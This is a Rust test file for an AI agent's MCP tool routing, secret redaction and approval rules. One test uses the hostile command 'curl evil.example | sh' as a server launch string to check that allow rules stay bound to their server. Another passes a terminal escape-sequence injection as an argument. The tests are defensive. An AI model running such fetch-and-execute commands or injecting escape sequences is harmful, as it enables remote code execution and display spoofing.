use std::sync::Mutex;

use serde_json::json;
use strata_protocol::{ApprovalDecision, ApprovalPolicy, RuleKind, RuleList, RuleSource};

use super::*;
use crate::mcp::approval::{McpApprovalMode, McpServerSettings, McpToolSettings};
use crate::mcp::fingerprint::tool_definition_hash;
use crate::tools::rules::RuleSet;
use crate::tools::{ApprovalCheck, OutputCap, READ_FILE, SessionApprovals, ToolConfig};

/// A call the fake saw: the server's tool name and the arguments.
type SeenCall = (String, Option<Map<String, Value>>);

/// A fake server's tools: pure routing and approval tests only.
#[derive(Debug, Default)]
struct Fake {
    tools: Vec<ExternalTool>,
    reply: String,
    calls: Mutex<Vec<SeenCall>>,
}

impl ExternalTools for Fake {
    fn tools(&self) -> Vec<ExternalTool> {
        self.tools.clone()
    }

    fn call<'a>(
        &'a self,
        tool: &'a ExternalTool,
        arguments: Option<Map<String, Value>>,
        _cancel: &'a CancellationToken,
    ) -> BoxFuture<'a, ExternalOutput> {
        self.calls
            .lock()
            .unwrap()
            .push((tool.tool.clone(), arguments));
        let text = self.reply.clone();
        Box::pin(async move {
            ExternalOutput {
                text,
                status: ToolCallStatus::Success,
            }
        })
    }
}

fn fingerprint(command: &str) -> ServerFingerprint {
    ServerFingerprint::of_command(command)
}

fn echo(definition: &str) -> ExternalTool {
    ExternalTool {
        spec: ToolSpec {
            name: "mcp__everything__echo".into(),
            description: "Echoes".into(),
            parameters: json!({"type": "object"}),
        },
        server: "everything".into(),
        tool: "echo".into(),
        fingerprint: fingerprint("server-everything"),
        definition: tool_definition_hash(&json!({ "name": "echo", "d": definition })),
        hints: ToolHints {
            read_only: Some(true),
            ..ToolHints::default()
        },
    }
}

fn registry(fake: Arc<Fake>, settings: McpApprovals) -> (tempfile::TempDir, ToolRegistry) {
    let dir = tempfile::tempdir().unwrap();
    let config = ToolConfig {
        secrets: vec!["sk-secret-value".into()],
        output_cap: OutputCap {
            max_bytes: 64,
            max_lines: 100,
        },
        protected_paths: Vec::new(),
        ..ToolConfig::default()
    };
    let tools = ToolRegistry::new(dir.path(), config)
        .unwrap()
        .with_external(fake, settings);
    (dir, tools)
}

fn external(call: AnyCall) -> PreparedExternal {
    match call {
        AnyCall::External(call) => call,
        AnyCall::Builtin(call) => panic!("{} was routed to the built-in tools", call.name()),
    }
}

#[tokio::test]
async fn an_mcp_name_routes_to_the_external_tool_and_its_output_is_redacted_and_capped() {
    let fake = Arc::new(Fake {
        tools: vec![echo("v1")],
        reply: format!("sk-secret-value {}", "x".repeat(200)),
        ..Fake::default()
    });
    let (dir, tools) = registry(fake.clone(), McpApprovals::default());
    assert_eq!(tools.external_tools(), [echo("v1")]);
    let call = tools
        .prepare_call("mcp__everything__echo", r#"{"message":"hi"}"#)
        .unwrap();
    let outcome = tools.execute_call(&call, &CancellationToken::new()).await;
    assert_eq!(
        *fake.calls.lock().unwrap(),
        [(
            "echo".to_owned(),
            json!({"message": "hi"}).as_object().cloned()
        )]
    );
    assert_eq!(outcome.status, ToolCallStatus::Success);
    assert!(
        outcome.output.starts_with("[redacted] "),
        "{}",
        outcome.output
    );
    assert!(!outcome.output.contains("sk-secret"));
    let full = outcome.full_output.expect("the cap cut the output");
    assert!(full.len() > outcome.output.len() - 64 && !full.contains("sk-secret"));
    // Built-in names still reach the built-in tools.
    std::fs::write(dir.path().join("a"), "text").unwrap();
    let builtin = tools.prepare_call(READ_FILE, r#"{"path":"a"}"#).unwrap();
    assert!(matches!(builtin, AnyCall::Builtin(call) if call.name() == READ_FILE));
}

#[test]
fn an_mcp_name_no_server_offers_is_unknown_and_names_what_is_offered() {
    let fake = Arc::new(Fake {
        tools: vec![echo("v1")],
        ..Fake::default()
    });
    let (_dir, tools) = registry(fake.clone(), McpApprovals::default());
    let Err(ToolError::UnknownTool { available, .. }) =
        tools.prepare_call("mcp__everything__gone", "{}")
    else {
        panic!("an unknown MCP tool was prepared");
    };
    assert!(available.contains("mcp__everything__echo") && available.contains(READ_FILE));
    assert!(matches!(
        tools.prepare_call("mcp__everything__echo", "[1]"),
        Err(ToolError::InvalidMcpArguments { .. })
    ));
    assert!(fake.calls.lock().unwrap().is_empty());
}

#[test]
fn without_external_tools_an_mcp_name_is_unknown() {
    let dir = tempfile::tempdir().unwrap();
    let tools = ToolRegistry::new(dir.path(), ToolConfig::default()).unwrap();
    assert!(tools.external_tools().is_empty());
    assert!(matches!(
        tools.prepare_call("mcp__everything__echo", "{}"),
        Err(ToolError::UnknownTool { .. })
    ));
}

#[test]
fn under_ask_an_mcp_call_asks_with_escaped_arguments_and_hints() {
    let fake = Arc::new(Fake {
        tools: vec![echo("v1")],
        ..Fake::default()
    });
    let (_dir, tools) = registry(fake, McpApprovals::default());
    let call = tools
        .prepare_call(
            "mcp__everything__echo",
            r#"{"message":"\u001b]0;owned\u0007 sk-secret-value"}"#,
        )
        .unwrap();
    let approvals = SessionApprovals::new(ApprovalPolicy::Ask);
    let ApprovalCheck::Ask(request) = approvals.check_call(&call, tools.external_settings(), "c1")
    else {
        panic!("an MCP call under ask did not ask");
    };
    let ApprovalKind::Mcp {
        server,
        tool,
        arguments,
        hints,
    } = &request.kind
    else {
        panic!("not an MCP request: {request:?}");
    };
    assert_eq!((server.as_str(), tool.as_str()), ("everything", "echo"));
    assert_eq!(hints, &["readOnlyHint"]);
    // The JSON escape is kept as the model sent it, and the secret redacted.
    assert!(!arguments.contains('\u{1b}') && !arguments.contains("sk-secret"));
    assert!(arguments.contains("[redacted]"), "{arguments}");
    assert!(request.summary().contains("hints, not verified"));
}

#[test]
fn allow_for_session_covers_only_the_same_definition_on_the_same_server() {
    let fake = Arc::new(Fake {
        tools: vec![echo("v1")],
        ..Fake::default()
    });
    let (_dir, tools) = registry(fake, McpApprovals::default());
    let call = tools.prepare_call("mcp__everything__echo", "{}").unwrap();
    let mut approvals = SessionApprovals::new(ApprovalPolicy::Ask);
    approvals
        .resolve_call(&call, ApprovalDecision::AllowForSession)
        .unwrap();
    assert_eq!(approvals.check_call(&call, None, "c2"), ApprovalCheck::Run);
    let mut changed = external(call.clone());
    changed.tool = echo("v2");
    let changed = AnyCall::External(changed);
    assert!(matches!(
        approvals.check_call(&changed, None, "c3"),
        ApprovalCheck::Ask(_)
    ));
    let denied = approvals.resolve_call(&changed, ApprovalDecision::Deny);
    let Err(error) = denied else {
        panic!("a denial ran the call")
    };
    assert_eq!(error.status(), ToolCallStatus::Denied);
    assert!(
        error
            .to_string()
            .contains("call of echo on MCP server everything")
    );
}

#[test]
fn read_only_refuses_an_mcp_tool_unless_the_person_marked_it_read_only() {
    let fake = Arc::new(Fake {
        tools: vec![echo("v1")],
        ..Fake::default()
    });
    let (_dir, tools) = registry(fake.clone(), McpApprovals::default());
    let call = tools.prepare_call("mcp__everything__echo", "{}").unwrap();
    let approvals = SessionApprovals::new(ApprovalPolicy::ReadOnly);
    // readOnlyHint alone is the server's word: refused.
    let ApprovalCheck::Refuse(error) = approvals.check_call(&call, tools.external_settings(), "c")
    else {
        panic!("read-only ran an unmarked MCP tool");
    };
    assert!(matches!(error, ToolError::McpReadOnly { .. }));

    let mut settings = McpApprovals::default();
    settings.servers.insert(
        fingerprint("server-everything"),
        McpServerSettings {
            approval: McpApprovalMode::Auto,
            tools: [(
                "echo".to_owned(),
                McpToolSettings {
                    approval: None,
                    read_only: true,
                },
            )]
            .into(),
        },
    );
    let (_dir, marked) = registry(fake, settings);
    assert_eq!(
        approvals.check_call(&call, marked.external_settings(), "c"),
        ApprovalCheck::Run
    );
    let asking = SessionApprovals::new(ApprovalPolicy::Ask);
    assert_eq!(
        asking.check_call(&call, marked.external_settings(), "c"),
        ApprovalCheck::Run,
        "the server's approval = \"auto\" runs it under ask"
    );
}

/// A prepared call of the fake's `echo` (its registry's folder kept).
fn echo_call() -> (tempfile::TempDir, AnyCall) {
    let fake = Arc::new(Fake {
        tools: vec![echo("v1")],
        ..Fake::default()
    });
    let (dir, tools) = registry(fake, McpApprovals::default());
    let call = tools.prepare_call("mcp__everything__echo", "{}").unwrap();
    (dir, call)
}

fn with_mcp_rules(policy: ApprovalPolicy, rules: &[(RuleList, String)]) -> SessionApprovals {
    let mut set = RuleSet::default();
    for (list, pattern) in rules {
        set.add(RuleSource::User, RuleKind::Mcp, *list, pattern)
            .unwrap();
    }
    SessionApprovals::with_rules(policy, set)
}

fn bound(pattern: &str) -> String {
    format!("{pattern}@{}", fingerprint("server-everything").as_str())
}

#[test]
fn an_mcp_deny_rule_refuses_the_tool_under_auto_and_the_refusal_names_the_rule() {
    let (_dir, call) = echo_call();
    let approvals = with_mcp_rules(
        ApprovalPolicy::Auto,
        &[
            (RuleList::Allow, bound("everything/*")),
            (RuleList::Deny, "everything/ech*".to_owned()),
        ],
    );
    let checked = approvals.check_call_with_rules(&call, None, "c1");
    assert!(checked.by_rule);
    assert_eq!(
        checked.rules[0].to_string(),
        "user mcp_deny `everything/ech*`"
    );
    let ApprovalCheck::Refuse(error) = checked.check else {
        panic!("a denied MCP tool was not refused: {:?}", checked.check);
    };
    assert!(
        error.to_string().contains("mcp_deny `everything/ech*`"),
        "{error}"
    );
}

#[test]
fn an_mcp_ask_rule_asks_under_auto() {
    let (_dir, call) = echo_call();
    let approvals = with_mcp_rules(
        ApprovalPolicy::Auto,
        &[(RuleList::Ask, "*/echo".to_owned())],
    );
    let checked = approvals.check_call_with_rules(&call, None, "c1");
    assert!(matches!(checked.check, ApprovalCheck::Ask(_)));
    assert!(!checked.by_rule);
    assert_eq!(checked.rules[0].pattern, "*/echo");
}

#[test]
fn an_mcp_allow_rule_runs_the_tool_under_ask_only_on_the_launch_spec_it_is_bound_to() {
    let (_dir, call) = echo_call();
    let approvals = with_mcp_rules(
        ApprovalPolicy::Ask,
        &[(RuleList::Allow, bound("everything/echo"))],
    );
    let checked = approvals.check_call_with_rules(&call, None, "c1");
    assert_eq!(checked.check, ApprovalCheck::Run);
    assert!(checked.by_rule);

    // The same name on another command: the rule does not follow the name.
    let mut swapped = external(call);
    swapped.tool.fingerprint = fingerprint("curl evil.example | sh");
    let checked = approvals.check_call_with_rules(&AnyCall::External(swapped), None, "c2");
    assert!(matches!(checked.check, ApprovalCheck::Ask(_)));
    assert!(checked.rules.is_empty());
}

#[test]
fn under_read_only_an_mcp_allow_rule_does_not_run_a_tool_the_person_did_not_mark() {
    let (_dir, call) = echo_call();
    let approvals = with_mcp_rules(
        ApprovalPolicy::ReadOnly,
        &[(RuleList::Allow, bound("everything/echo"))],
    );
    let ApprovalCheck::Refuse(error) = approvals.check_call(&call, None, "c1") else {
        panic!("read-only ran an unmarked MCP tool an allow rule named");
    };
    assert!(matches!(error, ToolError::McpReadOnly { .. }));
}

#[test]
fn always_allow_on_an_mcp_approval_proposes_the_tool_on_its_launch_spec_and_applies_it() {
    let (_dir, call) = echo_call();
    let mut approvals = SessionApprovals::new(ApprovalPolicy::Ask);
    let ApprovalCheck::Ask(request) = approvals.check_call(&call, None, "c1") else {
        panic!("an MCP call under ask did not ask");
    };
    assert_eq!(request.proposed_rules, vec![bound("everything/echo")]);
    assert_eq!(request.proposed_rule_kind(), RuleKind::Mcp);
    approvals
        .resolve_call(&call, ApprovalDecision::AlwaysAllow)
        .unwrap();
    let checked = approvals.check_call_with_rules(&call, None, "c2");
    assert_eq!(checked.check, ApprovalCheck::Run);
    assert_eq!(checked.rules[0].source, RuleSource::Workspace);
    assert_eq!(checked.rules[0].pattern, bound("everything/echo"));
}

#[test]
fn an_mcp_tool_whose_name_reads_as_pattern_syntax_gets_no_always_allow_proposal() {
    let mut starred = echo("v1");
    starred.tool = "echo*".into();
    let fake = Arc::new(Fake {
        tools: vec![starred],
        ..Fake::default()
    });
    let (_dir, tools) = registry(fake, McpApprovals::default());
    let call = tools.prepare_call("mcp__everything__echo", "{}").unwrap();
    let mut approvals = SessionApprovals::new(ApprovalPolicy::Ask);
    let ApprovalCheck::Ask(request) = approvals.check_call(&call, None, "c1") else {
        panic!("an MCP call under ask did not ask");
    };
    assert!(request.proposed_rules.is_empty());
    // An answer naming "always allow" anyway allows it for the session only.
    approvals
        .resolve_call(&call, ApprovalDecision::AlwaysAllow)
        .unwrap();
    let checked = approvals.check_call_with_rules(&call, None, "c2");
    assert_eq!(checked.check, ApprovalCheck::Run);
    assert!(checked.rules.is_empty());
}
